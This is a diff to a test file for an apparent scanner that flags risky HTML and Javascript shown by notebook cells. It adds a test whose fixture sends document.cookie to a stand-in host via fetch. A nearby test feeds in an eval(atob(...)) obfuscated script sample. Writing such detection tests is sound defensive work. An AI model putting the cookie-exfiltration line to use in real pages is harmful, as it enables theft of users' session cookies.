@@ -50,6 +50,11 @@ describe('a page or a script that a cell shows', () => {
     expect(found.map((each) => each.severity)).toContain(severity);
   });
 
+  it('is told once where something is reached for and sent', async () => {
+    const found = await told(`Javascript("fetch('https://c.example.invalid/?' + document.cookie)")`);
+    expect(found.map(({ severity }) => severity)).toEqual(['HIGH']);
+  });
+
   it('goes to the rules for programs as well', async () => {
     const found = await told(
       `HTML("""<p>1</p>\n<script>\neval(atob("YWxlcnQoMSk7YWxlcnQoMik="))</script>""")`,
@@ -80,11 +85,11 @@ describe('a page or a script that a cell shows', () => {
     );
   });
 
-  it('is read in time linear in the program', () => {
-    const begun = performance.now();
-    spokenPages('HTML("'.repeat(100_000));
-    spokenPages(`HTML(${'"a" '.repeat(200_000)}`);
-    spokenPages(`HTML("${'\\'.repeat(400_000)}`);
-    expect(performance.now() - begun).toBeLessThan(2000);
+  it.each([
+    ['HTML("'.repeat(100_000), 200],
+    [`HTML(${'"a" '.repeat(200_000)}`, 1],
+    [`HTML("${'\\'.repeat(400_000)}`, 1],
+  ])('comes to an end with whatever is repeated (%#)', (text, count) => {
+    expect(spokenPages(text)).toHaveLength(count);
   });
 });
